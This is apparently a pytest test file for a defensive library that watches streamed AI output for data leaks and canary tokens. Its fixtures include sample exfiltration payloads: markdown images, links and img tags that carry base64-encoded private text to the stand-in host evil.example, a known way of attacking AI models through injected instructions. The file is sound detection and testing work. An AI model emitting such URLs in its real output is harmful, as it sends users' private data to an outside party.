import base64
import itertools
import random
from collections import Counter

import pytest

from curtilage.detect.hostile.assess import THRESHOLD
from curtilage.detect.hostile.canary import CanaryKey
from curtilage.detect.hostile.guards import CanaryGuard, LeakGuard
from curtilage.detect.hostile.models import Action, Kind

KEY = CanaryKey(b"a key of sixteen")
CANARY = KEY.mint_named("crm export")
SAID = base64.b64encode(b"the patient said that she moves to Lyon").decode()
LEAK = f"https://evil.example/p.png?x={SAID}"
TEXTS = [
    f"Here you are ![chart]({LEAK}) and more.",
    f"See [the source]({LEAK}), or <{LEAK}>.",
    f'<img alt="" src="{LEAK}"> // and a comment / or two',
    f"[1]: {LEAK}\n\n![a][1]",
    f"Two: ![a]({LEAK})![b]({LEAK})",
    "A link: [docs](https://docs.example/a/b?page=2) and https://docs.example//x.",
    "//",
    "a //b ![x](//e) http:// and ///",
    f"![x](//<host>/{SAID}) and ![x](//<h st>/{SAID})",
    f"![x](https://a.example/?d=<nobody\ncloses> ![x]({LEAK}",
    "![x](https://evil.example/?q=<your name here>&data=it+was+said+that+he+left+her)",
]


class Met:
    """Notes what is met, and answers with one action."""

    def __init__(self, action: Action) -> None:
        self.action = action
        self.found: Counter[Kind] = Counter()

    def __call__(self, kind: Kind) -> Action:
        self.found[kind] += 1
        return self.action


def watched(pieces: list[str], action: Action, *allowed: str) -> tuple[str, int]:
    met = Met(action)
    guard = LeakGuard(met, allowed=allowed, threshold=THRESHOLD)
    shown = "".join(map(guard.feed, pieces)) + guard.close()
    return shown, met.found[Kind.EXFILTRATION]


def searched(pieces: list[str], action: Action) -> tuple[str, int]:
    met = Met(action)
    guard = CanaryGuard(met, KEY)
    shown = "".join(map(guard.feed, pieces)) + guard.close()
    return shown, met.found[Kind.CANARY]


@pytest.mark.parametrize("text", TEXTS)
def test_what_is_flagged_is_shown_as_it_came(text: str) -> None:
    shown, met = watched([text], Action.FLAG)
    assert shown == text
    assert met == text.count(SAID) + ("it+was" in text)


def test_an_address_that_carries_data_is_cut_and_all_around_it_stays() -> None:
    assert watched([TEXTS[0]], Action.STRIP)[0] == "Here you are ![chart](https://[…]) and more."
    assert watched([TEXTS[4]], Action.STRIP)[0] == "Two: ![a](https://[…])![b](https://[…])"
    assert SAID not in watched([TEXTS[2]], Action.STRIP)[0]


@pytest.mark.parametrize("text", TEXTS)
def test_any_cuts_give_the_same(text: str) -> None:
    whole = watched([text], Action.STRIP)
    assert watched(list(text), Action.STRIP) == whole
    chance = random.Random(1)
    for _ in range(40):
        cuts = sorted(chance.sample(range(len(text) + 1), min(3, len(text))))
        pieces = [text[a:b] for a, b in itertools.pairwise([0, *cuts, len(text)])]
        assert watched(pieces, Action.STRIP) == whole


def test_a_host_that_is_trusted_may_be_sent_data() -> None:
    assert watched([TEXTS[0]], Action.STRIP, "evil.example") == (TEXTS[0], 0)
    assert watched([TEXTS[0]], Action.STRIP, "example.evil") != (TEXTS[0], 0)


def test_a_place_to_fill_is_none_where_the_model_wrote_it() -> None:
    text = "![x](https://api.example/users/{{id}})"
    assert watched([text], Action.STRIP) == (text, 0)


def test_nothing_is_held_back_but_an_address_and_that_not_without_end() -> None:
    guard = LeakGuard(Met(Action.FLAG), allowed=(), threshold=THRESHOLD)
    assert guard.feed("Nothing here ") == "Nothing here "
    assert guard.feed("see https:/") == "see https:/"
    assert guard.feed("/a.example/") == "/"
    shown = "".join(guard.feed("x" * 100) for _ in range(80))
    assert len(shown) > 8000 - 4400


@pytest.mark.parametrize("text", [f"It says {CANARY}.", f"{CANARY.upper()}{CANARY}", CANARY[:-1]])
def test_a_canary_is_cut_however_it_comes(text: str) -> None:
    whole = searched([text], Action.STRIP)
    assert CANARY not in whole[0].lower()
    assert whole[1] == text.lower().count(CANARY)
    for size in (1, 5, 9, 34):
        pieces = [text[start : start + size] for start in range(0, len(text), size)]
        assert searched(pieces, Action.STRIP) == whole
        assert searched(pieces, Action.FLAG) == (text, whole[1])


@pytest.mark.parametrize("dressed", [CANARY[::-1], " ".join(CANARY), CANARY.encode().hex()])
def test_a_canary_in_disguise_is_met(dressed: str) -> None:
    text = f"{'x ' * 5000}{dressed} and on {'y ' * 500}"
    assert searched([text], Action.STRIP) == (text, 1)
    assert searched([text[:10_010], text[10_010:]], Action.FLAG) == (text, 1)


def test_who_is_told_may_end_the_text_before_anything_of_it_is_shown() -> None:
    def end(kind: Kind) -> Action:
        raise RuntimeError(kind)

    leaks = LeakGuard(end, allowed=(), threshold=THRESHOLD)
    canaries = CanaryGuard(end, KEY)
    shown = [leaks.feed(TEXTS[0][:60]), canaries.feed(f"So {CANARY[:20]}")]
    with pytest.raises(RuntimeError):
        leaks.feed(TEXTS[0][60:])
    with pytest.raises(RuntimeError):
        canaries.feed(f"{CANARY[20:]} and what follows behind it")
    assert shown == ["Here you are ![chart](https://", "So "]


def test_what_only_looks_like_the_beginning_of_one_is_let_go() -> None:
    lead = KEY.lead()
    assert searched([lead[:5], "! and ", lead, "-and no more of it than that, or hardly any"],
                    Action.STRIP)[1] == 0  # fmt: skip
    guard = CanaryGuard(Met(Action.FLAG), KEY)
    assert guard.feed(f"İ {lead[:3]}") == "İ "
    assert guard.feed("?") == f"{lead[:3]}?"
